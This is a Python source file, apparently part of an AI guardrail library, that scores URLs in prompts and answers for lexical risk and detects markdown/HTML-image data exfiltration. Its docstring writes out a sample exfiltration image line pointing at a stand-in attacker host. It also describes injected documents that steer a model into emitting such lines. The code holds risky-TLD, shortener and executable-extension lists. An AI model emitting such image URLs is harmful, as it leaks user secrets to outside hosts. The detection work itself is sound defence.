"""URLs in prompts, documents and answers: lexical risk signals and markdown-image exfiltration.

An answer that renders `![x](https://attacker.example/log?q=<secret>)` leaks data the moment a
client loads the image: no click needed. Documents carrying such templates are instructions to
the model to produce one. Lexical signals (IP literal hosts, punycode, user-info tricks, risky
TLDs, shorteners, executables, `javascript:`/`data:` URIs) are scored; domain reputation comes
from the DNS pillar through the `domain_intel` capability when it is installed.
"""

from __future__ import annotations

import ipaddress
import re
import urllib.parse
from dataclasses import dataclass, field

from tutela.runtime.secrets import shannon_entropy

URL = re.compile(r"(?i)\b(?:https?|ftp)://[^\s<>\"'`)\]]{1,2048}|\b(?:javascript|data|vbscript):[^\s<>\"'`)]{1,4096}")
MD_IMAGE = re.compile(r"!\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]{1,4096})>?(?:\s+\"[^\"]*\")?\s*\)")
HTML_IMG = re.compile(r"(?i)<img\b[^>]{0,500}?\bsrc\s*=\s*[\"']?([^\"'\s>]{1,4096})")
MD_REF_IMAGE = re.compile(r"(?im)^\s*\[[^\]]{1,100}\]:\s*(https?://\S{1,4096})")
TEMPLATE = re.compile(
    r"\{[^}]{1,40}\}|\$\{?[A-Z_]{3,}\}?|\[(?:DATA|SECRET|INFO|[A-Z_]{4,})\]|<[A-Za-z_ ]{3,30}>|%[A-Z_]{3,}%"
)


def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


RISKY_TLDS = _words(
    "zip mov top xyz tk ml ga cf gq click country kim work date loan men review stream download racing win bid "
    "party science trade webcam accountant faith cricket gdn link rest fit surf icu cyou buzz monster sbs cfd"
)
SHORTENERS = _words(
    "bit.ly tinyurl.com t.co goo.gl ow.ly is.gd buff.ly rebrand.ly cutt.ly shorturl.at tiny.cc rb.gy "
    "t.ly s.id v.gd lnkd.in bl.ink"
)
EXECUTABLE = re.compile(r"(?i)\.(?:exe|scr|msi|bat|cmd|ps1|vbs|hta|jar|apk|dmg|pkg|lnk|iso|dll|sh)(?:$|[?#])")


@dataclass(frozen=True, slots=True)
class UrlSignal:
    start: int
    end: int
    url: str
    host: str
    score: float
    reasons: tuple[str, ...]
    exfiltration: bool = False
    details: dict[str, object] = field(default_factory=dict)


def _host(url: str) -> tuple[str, urllib.parse.SplitResult | None]:
    try:
        parts = urllib.parse.urlsplit(url)
        return (parts.hostname or "").lower().rstrip("."), parts
    except ValueError:
        return "", None


def lexical(url: str) -> tuple[float, list[str]]:
    """A 0..1 lexical risk score and its reasons."""
    low = url.lower()
    if low.startswith(("javascript:", "vbscript:")):
        return 0.9, ["script URI"]
    if low.startswith("data:"):
        return (0.8, ["data URI with active content"]) if re.match(r"data:(?:text/html|[^,]*script)", low) else (0, [])
    host, parts = _host(url)
    if parts is None or not host:
        return 0.3, ["unparsable URL"]
    score, reasons = 0.0, []
    try:
        ipaddress.ip_address(host.strip("[]"))
        score += 0.35
        reasons.append("IP-literal host")
    except ValueError:
        pass
    if "xn--" in host or not host.isascii():
        score += 0.35
        reasons.append("internationalised (punycode) host")
    if parts.username is not None:
        score += 0.4
        reasons.append("user-info before the host")
    labels = host.split(".")
    tld = labels[-1]
    if tld in RISKY_TLDS:
        score += 0.25
        reasons.append(f"risky TLD .{tld}")
    if host in SHORTENERS:
        score += 0.2
        reasons.append("URL shortener")
    if len(labels) > 5:
        score += 0.15
        reasons.append("many subdomains")
    if max((len(lb) for lb in labels), default=0) >= 24 and shannon_entropy(max(labels, key=len)) > 3.8:
        score += 0.25
        reasons.append("random-looking label")
    if parts.port not in (None, 80, 443):
        score += 0.1
        reasons.append(f"port {parts.port}")
    if EXECUTABLE.search(parts.path):
        score += 0.35
        reasons.append("executable download")
    if len(url) > 300:
        score += 0.1
        reasons.append("very long URL")
    if host.count("-") >= 3:
        score += 0.1
        reasons.append("many hyphens")
    return min(1.0, score), reasons


def _carries_data(url: str) -> tuple[bool, str]:
    """Does this image URL carry data out (a query value or path segment that is data or a template)?"""
    _, parts = _host(url)
    if parts is None:
        return False, ""
    if TEMPLATE.search(urllib.parse.unquote(url)):
        return True, "templated parameter"
    for _, value in urllib.parse.parse_qsl(parts.query, keep_blank_values=True):
        if len(value) >= 16 or (len(value) >= 8 and shannon_entropy(value) > 3.0) or " " in value:
            return True, "data in query parameter"
    for seg in parts.path.split("/"):
        seg = urllib.parse.unquote(seg)
        if len(seg) >= 40 or (len(seg) >= 24 and shannon_entropy(seg) > 4.0):
            return True, "data in path"
    if len(parts.query) >= 64:
        return True, "long query string"
    return False, ""


def find_urls(text: str) -> list[UrlSignal]:
    out: list[UrlSignal] = []
    seen: set[tuple[int, int]] = set()
    images: list[tuple[int, int, str]] = []
    for rx in (MD_IMAGE, HTML_IMG, MD_REF_IMAGE):
        for m in rx.finditer(text):
            images.append((m.start(), m.end(), m.group(1)))
    for start, end, url in images:
        host, _ = _host(url)
        exfil, why = _carries_data(url) if url.lower().startswith(("http://", "https://", "//")) else (False, "")
        score, reasons = lexical(url)
        if exfil:
            score = max(score, 0.9)
            reasons = [f"markdown/HTML image whose URL carries data ({why})", *reasons]
        if score > 0:
            out.append(UrlSignal(start, end, url, host, score, tuple(reasons), exfil))
        seen.update((s, e) for s, e in [(start, end)])
    for m in URL.finditer(text):
        url = m.group().rstrip(".,;:!?")
        if any(s <= m.start() < e for s, e in seen):
            continue
        host, _ = _host(url)
        score, reasons = lexical(url)
        out.append(UrlSignal(m.start(), m.start() + len(url), url, host, score, tuple(reasons)))
    return sorted(out, key=lambda s: s.start)
